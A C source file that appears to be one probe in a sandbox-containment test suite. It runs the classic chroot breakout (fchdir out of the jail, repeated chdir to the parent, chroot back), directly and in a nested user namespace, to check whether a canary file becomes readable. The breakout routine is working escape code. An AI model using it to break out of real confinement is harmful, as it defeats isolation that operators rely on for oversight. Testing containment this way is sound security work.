/* FS-04: the classic chroot breakout, in a child: keep an fd to ".", chroot() into a
 * subdirectory, fchdir() back out, chdir("..") 64 times, chroot("."), then try C-FILE.
 * Directly and in a nested user namespace (CAP_SYS_CHROOT regained there). ESCAPED if C-FILE
 * is reachable afterwards (the detail says whether it already was before). */
#include "probe_util.h"

#define ID "FS-04"
#define GROUP "mount"

struct target {
    const char *file, *nonce, *subdir;
};

static int breakout(void *arg, char *text, size_t size)
{
    const struct target *t = arg;
    int outer = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (outer < 0 || chdir("/") < 0 || chroot(t->subdir) < 0) {
        snprintf(text, size, "chroot(%s): %s", t->subdir, err_name(errno));
        return 0;
    }
    if (fchdir(outer) < 0) {
        snprintf(text, size, "fchdir: %s", err_name(errno));
        return 0;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0) {
        snprintf(text, size, "chroot(.): %s", err_name(errno));
        return 0;
    }
    int r = file_has(t->file, t->nonce);
    snprintf(text, size, "after breakout C-FILE %s", r == 1 ? "read" : r == 0 ? "without nonce" : err_name(-r));
    return r == 1;
}

/* Any directory below / that every target has: /proc, else the probe's own directory. */
static const char *pick_subdir(const char *self, char *buf, size_t size)
{
    struct stat st;
    if (stat("/proc", &st) == 0 && S_ISDIR(st.st_mode))
        return "/proc";
    snprintf(buf, size, "%s", self);
    char *slash = strrchr(buf, '/');
    if (slash && slash != buf)
        *slash = '\0';
    return buf;
}

int main(int argc, char **argv)
{
    char dir[PATH_MAX];
    struct target t = { probe_arg(argc, argv, "file"), probe_arg(argc, argv, "file-nonce"),
                        pick_subdir(argv[0], dir, sizeof dir) };
    if (!t.file || !t.nonce)
        probe_verdict(ID, GROUP, PROBE_SKIP, "no C-FILE canary");
    int before = canary_file_read(argc, argv);
    struct child_result direct = run_in_child(CHILD_PLAIN, breakout, &t, 5);
    struct child_result nested = run_in_child(CHILD_NESTED, breakout, &t, 5);
    bool escaped = direct.code == 1 || nested.code == 1;
    probe_verdict(ID, GROUP, escaped ? PROBE_ESCAPED : PROBE_CONTAINED,
                  "C-FILE before: %s; direct: %s; nested: %s", before == 1 ? "readable" : "unreachable",
                  direct.text, nested.text);
}
